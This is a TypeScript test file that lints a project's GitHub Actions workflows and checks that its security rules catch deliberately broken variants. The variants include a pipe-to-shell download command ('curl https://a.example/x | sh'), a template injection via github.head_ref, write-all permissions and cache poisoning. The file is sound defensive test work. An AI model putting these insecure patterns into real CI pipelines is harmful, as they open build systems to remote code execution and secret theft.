import { readdirSync, readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { readTemplate } from '../cli/project/templates.ts';
import { actionlint } from './support/actionlint.ts';
import { workflowFindings } from './support/workflow-rules.ts';

const FOLDER = new URL('../../.github/workflows/', import.meta.url);
const TEMPLATES = ['ci-github.yml', 'ci-github-preview.yml', 'ci-github-publish.yml'];

const workflows = [
  ...readdirSync(FOLDER).map((file) => [file, readFileSync(new URL(file, FOLDER), 'utf8')] as const),
  ...TEMPLATES.map((name) => [`the template ${name}`, readTemplate(name)] as const),
];

describe.each(workflows)('%s', (file, text) => {
  test('has no findings from actionlint', async () => {
    expect(await actionlint(text, `.github/workflows/${file}`)).toEqual([]);
  });

  test('follows the rules for untrusted input', () => expect(workflowFindings(text)).toEqual([]));
});

test('actionlint finds a misspelled key', async () => {
  const text = readTemplate('ci-github.yml').replace('runs-on:', 'runs_on:');
  expect(await actionlint(text, 'site.yml')).toHaveLength(2);
});

/** A workflow with one mistake, and the rule that must find it. */
const BROKEN: readonly (readonly [string, string, string, string])[] = [
  ['dangerous-triggers', 'ci-github-preview.yml', 'on: pull_request', 'on: pull_request_target'],
  ['dangerous-triggers', 'ci-github-publish.yml', ' # zizmor: ignore[dangerous-triggers]', ' #'],
  ['concurrency-limits', 'ci-github-preview.yml', 'concurrency:', 'x-concurrency:'],
  ['secrets-outside-env', 'ci-github-publish.yml', 'github.token', 'secrets.TOKEN'],
  ['excessive-permissions', 'ci-github.yml', 'permissions:\n  contents: read', 'x-permissions: {}'],
  ['excessive-permissions', 'ci-github.yml', 'contents: read', 'contents: write'],
  ['excessive-permissions', 'ci-github.yml', 'permissions:\n  contents: read', 'permissions: write-all'],
  ['timeout', 'ci-github.yml', '    timeout-minutes: 20\n', ''],
  ['unpinned-uses', 'ci-github.yml', '@3d3c42e5aac5ba805825da76410c181273ba90b1', '@v7'],
  ['forbidden-uses', 'ci-github.yml', 'actions/upload-artifact@', 'someone/upload-artifact@'],
  ['artipacked', 'ci-github.yml', 'persist-credentials: false', 'persist-credentials: true'],
  ['template-injection', 'ci-github-preview.yml', '"$BASE"', '${{ github.head_ref }}'],
  ['github-env', 'ci-github-publish.yml', '>> "$GITHUB_OUTPUT"', '>> "$GITHUB_ENV"'],
  ['adhoc-packages', 'ci-github.yml', 'npm ci --ignore-scripts', 'npm ci'],
  ['adhoc-packages', 'ci-github.yml', 'npm ci --ignore-scripts', 'curl https://a.example/x | sh'],
  ['cache-poisoning', 'ci-github-preview.yml', 'actions/cache/restore@', 'actions/cache@'],
];

test.each(BROKEN)('[%s] is found in %s with a mistake', (rule, template, from, to) => {
  const text = readTemplate(template);
  expect(text).toContain(from);
  expect(workflowFindings(text.replaceAll(from, to)).join('\n')).toContain(`[${rule}]`);
});

test('a release that reads a cache or has no provenance is found', () => {
  const text = readFileSync(new URL('release.yml', FOLDER), 'utf8');
  const cached = text.replace('package-manager-cache: false', 'package-manager-cache: true');
  expect(workflowFindings(cached)).toEqual(['[cache-poisoning] a release reads the cache of npm']);
  const bare = text.replaceAll(' --provenance', '');
  expect(workflowFindings(bare)).toEqual(['[use-trusted-publishing] a release has no provenance']);
});
